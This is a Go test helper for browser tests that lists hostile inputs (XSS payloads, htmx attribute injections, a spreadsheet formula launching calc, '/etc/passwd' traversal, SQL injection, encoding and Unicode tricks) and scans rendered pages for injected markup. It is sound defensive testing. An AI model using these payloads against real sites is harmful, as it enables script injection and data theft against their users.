package browsertest

import (
	"slices"
	"strings"

	"github.com/chromedp/cdproto/page"
)

// Hostile are texts that clients may send as their names, paths and whatever
// else an event holds. Those that are markup would, if a page took them for
// such, call pwned or make an element with the attribute data-pwned.
var Hostile = slices.Concat(hostileWhole, hostileParts)

// HostileGroups are the same texts in fewer: those that do harm as a part of a
// text too are joined, some at a time.
func HostileGroups() []string {
	groups := slices.Clone(hostileWhole)
	for some := range slices.Chunk(hostileParts, 8) {
		groups = append(groups, strings.Join(some, " "))
	}
	return groups
}

// hostileWhole do harm as the whole of a value, or hide what follows them.
var hostileWhole = []string{
	`<a data-pwned href="javascript:pwned()">click</a>`,
	`javascript:pwned()`,
	`JaVaScRiPt:pwned()//`,
	"java\tscript:pwned()",
	`data:text/html,<script>pwned()</script>`,
	`data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
	`vbscript:pwned()`,
	`//192.0.2.1/pwned`,
	`/\192.0.2.1/pwned`,
	`https://192.0.2.1/pwned`,
	`<!--><script data-pwned>pwned()</script>-->`,
	`<plaintext data-pwned>`,
	"\u202e\u202e\u202e\u2067 never closed",
	`=cmd|' /C calc'!A0`,
	`../../../../etc/passwd`,
	`%zz`, `-`, `*`, ` `,
	strings.Repeat("W", 10_000),
	strings.Repeat("long words and ", 400),
	strings.Repeat("<div data-pwned>", 500),
	strings.Repeat("\u0489", 1000),
	"Z" + strings.Repeat("\u033f\u0333", 500),
}

// hostileParts do harm wherever they stand.
var hostileParts = []string{
	`  spaces  around  `, `%`, `null`, `undefined`, `NaN`, `[object Object]`, `__proto__`, `constructor`,
	`<script data-pwned>pwned()</script>`,
	`</script><script data-pwned>pwned()</script>`,
	`"><script data-pwned>pwned()</script>`,
	`'><script data-pwned>pwned()</script>`,
	`</title><script data-pwned>pwned()</script>`,
	`</textarea><script data-pwned>pwned()</script>`,
	`</pre></code></bdi></td><script data-pwned src="https://192.0.2.1/pwned.js"></script>`,
	`<img data-pwned src=x onerror=pwned()>`,
	`"><img data-pwned src=x onerror="pwned()">`,
	`<svg data-pwned onload=pwned()>`,
	`</svg><svg data-pwned><animate onbegin=pwned() attributeName=x dur=1s>`,
	`<svg data-pwned><foreignObject><iframe src="javascript:parent.pwned()"></iframe></foreignObject></svg>`,
	`<math data-pwned><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
	`<body data-pwned onload=pwned()>`,
	`<iframe data-pwned srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"></iframe>`,
	`<details data-pwned open ontoggle=pwned()>`,
	`<input data-pwned autofocus onfocus=pwned()>`,
	`" autofocus onfocus="pwned()" data-pwned="`,
	`' onmouseover='pwned()' data-pwned='`,
	"` onclick=`pwned()` data-pwned=`",
	`x onclick=pwned() data-pwned=x`,
	`<link data-pwned rel=stylesheet href="https://192.0.2.1/pwned.css">`,
	`<meta data-pwned http-equiv="refresh" content="0;url=https://192.0.2.1/pwned">`,
	`<base data-pwned href="https://192.0.2.1/">`,
	`<form data-pwned action="https://192.0.2.1/pwned"><button>Sign in</button>`,
	`<style data-pwned>*{display:none!important}</style>`,
	`";}*{background:url(https://192.0.2.1/pwned)}`,
	`</style><style data-pwned>@import "https://192.0.2.1/pwned.css";</style>`,
	`<div data-pwned hx-get="https://192.0.2.1/pwned" hx-trigger="load"></div>`,
	`" hx-get="/logout" hx-trigger="load" data-pwned="`,
	`<div data-pwned hx-on:click="pwned()" hx-on::load="pwned()" hx-vals="js:{a: pwned()}"></div>`,
	`<div data-pwned data-hx-get="/" data-hx-trigger="load[pwned()]"></div>`,
	`<template data-pwned><script>pwned()</script></template>`,
	`--><script data-pwned>pwned()</script><!--`,
	`<![CDATA[><script data-pwned>pwned()</script>]]>`,
	`<noscript><p title="</noscript><img data-pwned src=x onerror=pwned()>">`,
	`{{.}}{{template "content" .}}{{"pwned"}}`,
	`${pwned()} #{pwned()} <%= pwned() %> {%raw%}`,
	`\u003cscript data-pwned\u003epwned()\u003c/script\u003e`,
	`\x3cscript data-pwned\x3epwned()\x3c/script\x3e`,
	`&lt;script data-pwned&gt;pwned()&lt;/script&gt;`,
	`&#60;script data-pwned&#62;pwned()`,
	`%3Cscript%20data-pwned%3Epwned()%3C/script%3E`,
	`+ADw-script data-pwned+AD4-pwned()+ADw-/script+AD4-`,
	"\xc0\xbcscript data-pwned\xc0\xbepwned()\xc0\xbc/script\xc0\xbe",
	"broken \xff\xfe UTF-8 \xed\xa0\x80",
	"NUL \x00 and <scr\x00ipt data-pwned>pwned()</scr\x00ipt>",
	"controls \x01\x02\x07\x08\x0b\x0c\x0e\x1b[31mred\x1b[0m\x7f\u0085",
	"line one\nline two\r\nline three\rline four",
	"separators \u2028 and \u2029 end lines of scripts",
	"\u202eslaitnederc\u202c override, \u2066isolate\u2069, \u200fmark",
	"مرحبا بالعالم שלום עולם",
	"z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307a\u0316\u0317\u0318\u0319l\u0300\u0301\u0302\u0303\u0304g\u0323\u0324\u0325\u0326o\u0340\u0341\u0342\u0343\u0344",
	"👩‍👩‍👧‍👦🏳️‍🌈🇺🇳 \U000e0041\U000e007f \ufeff\u200b\u200d\u2060 invisible",
	"\uffff\ufffe\U0010ffff noncharacters \ue000",
	"'; DROP TABLE events; --",
	`..%2f..%2fetc%2fpasswd?a=b&method=GET#fragment`,
	`a&actor=b&cursor=c;d=e`,
}

// watch makes pwned complain, and counts breaches of the policy.
const watch = `window.pwned = (...args) => { console.error("a hostile script ran", ...args) };
document.addEventListener("securitypolicyviolation", e => console.error("policy: " + e.violatedDirective + " " + e.blockedURI));`

// injected says which hostile text the page took for markup: elements and
// attributes that no template writes, and links that run or leave.
const injected = `(() => {
	const bad = [];
	const say = e => bad.push(e.outerHTML.slice(0, 200));
	for (const e of document.querySelectorAll("*")) {
		if (e.matches("[data-pwned], iframe, object, embed, base, plaintext, math, foreignObject, body style, body link, body meta, body script")) say(e);
		for (const a of e.attributes) {
			if (/^on|^(data-)?hx-on|^style$/.test(a.name)) say(e);
			if (/^(href|src|action|formaction|data-hx-get|hx-get|hx-post|xlink:href|poster|srcdoc)$/.test(a.name) && a.value != "") {
				const to = new URL(a.value, document.baseURI);
				if (to.origin != location.origin && !(to.protocol == "blob:")) say(e);
			}
		}
	}
	return bad;
})()`

// Hostilities makes the tab complain when a text of Hostile runs. Call it
// before the first page.
func (tab *Tab) Hostilities() {
	tab.t.Helper()
	call(tab, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: watch})
}

// Harmless fails the test when the page took a text for markup, or lets one
// make it wider than the window.
func (tab *Tab) Harmless(view string) {
	tab.t.Helper()
	for _, element := range Eval[[]string](tab, injected) {
		tab.t.Errorf("%s: a text became %s", view, element)
	}
	if wide := tab.Overflow(); wide != "" {
		tab.t.Errorf("%s, %d pixels: the page scrolls sideways: %s", view, tab.Look.Width, wide)
	}
	for _, complaint := range tab.Complaints() {
		tab.t.Errorf("%s: %s", view, complaint)
	}
	tab.mu.Lock()
	tab.complaints = nil
	tab.mu.Unlock()
}
